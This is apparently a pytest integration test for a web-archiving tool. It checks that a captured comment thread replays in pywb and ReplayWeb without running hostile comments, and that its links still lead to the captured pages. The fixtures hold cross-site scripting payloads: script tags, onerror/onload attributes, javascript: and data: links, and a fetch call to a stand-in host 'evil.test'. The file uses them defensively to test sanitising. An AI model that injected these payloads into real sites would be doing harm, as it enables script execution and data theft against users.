"""The thread page in both viewers: hostile comments are read, nothing runs, links lead on."""

from __future__ import annotations

import dataclasses
import html
import re
import subprocess
import sys
import time
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import msgspec
import pytest
from chromium import Browser, chromium, frames
from scripted_web import SEED, page, scripted_web
from tests.interop.conftest import TOP, program, toml
from viewers import Pywb, ReplayWeb, both_viewers

from preserve.manifest import Manifest, read_manifest

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    Show = Callable[[Pywb | ReplayWeb], tuple[str, dict[str, Any]]]

pytestmark = [pytest.mark.debian, pytest.mark.timeout(240)]

SCREENSHOTS = TOP / "build" / "screenshots"  # for people to look at

STORY = "http://nouvelles.test/recit"
PLAN = "http://archives.test/plan"
PWN = "document.title='PWNED';document.body.dataset.pwned=1;alert(1);fetch('http://evil.test/told')"

RAN = """
[document.body.dataset.pwned ?? null,
 Array.from(document.scripts).filter((one) => one.text.includes("PWNED")).length,
 document.scrollingElement.scrollWidth > document.scrollingElement.clientWidth,
 document.querySelectorAll("img, svg, iframe, object, form, [onerror], [onload]").length]
"""

COMMENTS = (  # id, depth, author, body; what is not escaped here is mark-up of the site
    ("1", 1, "Camille", f"Comme on le lit ici : {STORY} et rien d’autre n’est sûr."),
    ("2", 2, "<script>" + PWN + "</script>", "La réponse. " + f"<script>{PWN}</script>"),
    ("3", 2, '"><img src=x onerror="' + PWN + '">', '"><svg onload="' + PWN + '"> & &amp; \'"'),
    ("4", 1, "עדה", "שלום לכולם, זה התנור של הכפר. \u202eתורפה"),
    ("5", 2, "سلمى", "مرحبا بالجميع 🥖🔥👩‍🌾"),
    ("6", 1, "Long", "m" * 700),
    ("7", 1, "Styles", f"</style></title></textarea><script>{PWN}</script>--><!--"),
)
LINKS = (
    f'<a href="{PLAN}">le plan du four</a> '
    f'<a href="javascript:{html.escape(PWN)}">cliquez</a> '
    f'<a href="data:text/html,<script>{html.escape(PWN)}</script>">données</a> '
    f'<a href="http://mort.test/page">une page morte</a> mais '
    f'<a href="{PLAN}?{"x" * 400}">le</a> reste.'
)


def comment(number: str, depth: int, author: str, body: str) -> str:
    return (
        f'<li id="comment-{number}" class="comment depth-{depth}">'
        f'<div id="div-comment-{number}" class="comment-body">'
        f'<div class="comment-author vcard"><cite class="fn">{html.escape(author)}</cite></div>'
        f'<div class="comment-meta commentmetadata"><a href="{SEED}#comment-{number}">'
        f"12 mars 2016 à 10 h {number}</a></div>{body}</div></li>"
    )


def thread() -> str:
    every = [comment(one, depth, who, f"<p>{html.escape(said)}</p>")
             for one, depth, who, said in COMMENTS]  # fmt: skip
    every.append(comment("8", 1, "Dominique", f"<p>{LINKS}</p><p>Deuxième paragraphe.</p>"))
    entries = "".join(every)
    return f'<div id="comments"><h2>9 commentaires</h2><ol class="commentlist">{entries}</ol></div>'


@dataclasses.dataclass(frozen=True, kw_only=True)
class Kept:
    manifest: Manifest
    folder: Path
    package: Path

    @property
    def url(self) -> str:
        page = self.manifest.discussion.thread_page
        assert page is not None
        return page.url

    @property
    def moment(self) -> str:
        page = self.manifest.discussion.thread_page
        assert page is not None
        return "".join(digit for digit in page.warc_date if digit.isdigit())[:14]


def preserve(*words: str) -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-m", "preserve", *words]
    done = subprocess.run(command, check=False, capture_output=True, timeout=150)
    assert done.returncode in {0, 3}, done.stderr.decode()
    return done


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory) -> Kept:
    """An article with hostile comments, captured and exported by the command."""
    home = tmp_path_factory.mktemp("thread-page")
    with scripted_web(home / "warcs") as web:
        body = "<article><h1>Le four du village</h1><p>Un texte sur le four. </p></article>"
        web.serve(SEED, page(body + thread()))
        web.serve(STORY, page("<h1>Un récit du four</h1><p>Le récit.</p>"))
        web.serve(PLAN, page("<h1>Plan du four</h1><p>Le plan.</p>"))
        config = home / "config.toml"
        config.write_text(toml(msgspec.to_builtins(web.settings)))
        places = ("--config", str(config), "--collection", str(home / "warcs"))
        preserve("capture", SEED, "--json", *places)
    (folder,) = (path.parent for path in (home / "warcs").glob("*/*/manifest.json"))
    package = home / "article.wacz"
    preserve("export", folder.name, "--format", "wacz", "--output", str(package), *places[2:])
    return Kept(manifest=read_manifest(folder / "manifest.json"), folder=folder, package=package)


@pytest.fixture(scope="module")
def viewers(
    kept: Kept, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[dict[str, Pywb | ReplayWeb]]:
    with both_viewers(kept.package, tmp_path_factory.mktemp("pywb")) as (pywb, replayweb):
        yield {viewer.name: viewer for viewer in (pywb, replayweb)}


@dataclasses.dataclass(frozen=True, kw_only=True)
class Watched:
    browser: Browser
    dialogs: list[str]


@pytest.fixture(scope="module")
def watched(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Watched]:
    with chromium(tmp_path_factory.mktemp("chromium")) as browser:
        dialogs: list[str] = []

        def note(told: dict[str, Any]) -> None:
            if told.get("method") == "Page.javascriptDialogOpening":
                dialogs.append(told["params"]["message"])

        browser.listeners.append(note)
        yield Watched(browser=browser, dialogs=dialogs)


def inner_frame(browser: Browser, tab: str, url: str) -> str | None:
    tree = browser.call("Page.getFrameTree", tab)["frameTree"]
    found = [one["id"] for one in frames(tree) if one["url"].endswith(f"mp_/{url}")]
    return found[-1] if found else None


@pytest.fixture
def show(kept: Kept, watched: Watched) -> Show:
    """Open the thread page; wait until a viewer's frame is around it, and it is still there."""

    def show(viewer: Pywb | ReplayWeb) -> tuple[str, dict[str, Any]]:
        tab = watched.browser.open(viewer.address(kept.url, kept.moment))
        shown: dict[str, Any] = {}
        for _ in range(1 + (viewer.name == "pywb")):  # it loads a page once more, in its frame
            time.sleep(0.7)
            shown = watched.browser.see(tab, inside=f"mp_/{kept.url}", seconds=25)
        return tab, shown

    return show


BOTH = pytest.mark.parametrize("name", ["pywb", "replayweb"])


@BOTH
def test_a_viewer_shows_the_thread_and_runs_nothing(
    kept: Kept,
    viewers: dict[str, Pywb | ReplayWeb],
    show: Show,
    watched: Watched,
    name: str,
) -> None:
    tab, shown = show(viewers[name])
    browser = watched.browser
    browser.picture(tab, SCREENSHOTS / f"{name}-thread-page.png", height=1700)

    assert shown, "the viewer showed no page"
    assert shown["title"] == f"Discussion : {kept.manifest.article.title}"
    text = re.sub(r" \[(?:capturé|introuvable)\]", "", shown["text"])
    for _, _, author, said in COMMENTS:
        assert author in text
        assert said.strip() in text
    assert "🥖🔥👩‍🌾" in text
    assert "annoncés : 9" in text
    assert watched.dialogs == []
    frame = inner_frame(browser, tab, kept.url)
    assert frame is not None
    assert browser.evaluate(tab, frame, RAN) == [None, 0, False, 0]
    asked = {urlsplit(url).hostname for url in browser.requests if url.startswith(("http", "ws"))}
    assert asked == {"127.0.0.1"}
    assert not [url for url in browser.requests if "evil.test" in url]


@BOTH
def test_a_click_leads_to_the_captured_page(
    kept: Kept, viewers: dict[str, Pywb | ReplayWeb], show: Show, watched: Watched, name: str
) -> None:
    for link, leads, read in (
        (f"a[href$='{SEED}']", SEED, "Un texte sur le four."),
        (f"article a[href$='{STORY}']", STORY, "Le récit."),
        (f"article a[href$='{PLAN}']", PLAN, "Le plan."),
    ):
        tab, _ = show(viewers[name])
        frame = inner_frame(watched.browser, tab, kept.url)
        assert frame is not None
        watched.browser.evaluate(tab, frame, f'document.querySelector("{link}").click()')
        shown = watched.browser.see(tab, inside=f"mp_/{leads}", seconds=20)
        assert read in shown["text"]
        assert "preserve/" not in shown["text"]


@BOTH
def test_a_comment_has_an_address_within_the_page(
    kept: Kept,
    viewers: dict[str, Pywb | ReplayWeb],
    show: Show,
    watched: Watched,
    name: str,
) -> None:
    tab, _ = show(viewers[name])
    browser = watched.browser
    frame = inner_frame(browser, tab, kept.url)
    assert frame is not None
    browser.evaluate(
        tab, frame, "document.querySelector('#comment-5 a[href$=\"#comment-4\"]').click()"
    )
    assert browser.evaluate(tab, frame, "document.querySelector(':target').id") == "comment-4"


def test_another_indexer_has_the_same_line_of_the_page(kept: Kept) -> None:
    warcs = [kept.folder / row.name for row in kept.manifest.files]
    done = subprocess.run(
        [program("cdxj-indexer"), "--sort", *warcs],
        check=True,
        capture_output=True,
        text=True,
        timeout=60,
    )
    ours = (kept.folder / "index.cdxj").read_text().splitlines()
    theirs = done.stdout.splitlines()
    assert [one for one in ours if kept.url in one] == [one for one in theirs if kept.url in one]
    assert sum(kept.url in one for one in ours) == 1


def test_what_was_captured_verifies(kept: Kept) -> None:
    preserve("verify", kept.folder.name, "--collection", str(kept.folder.parents[1]))
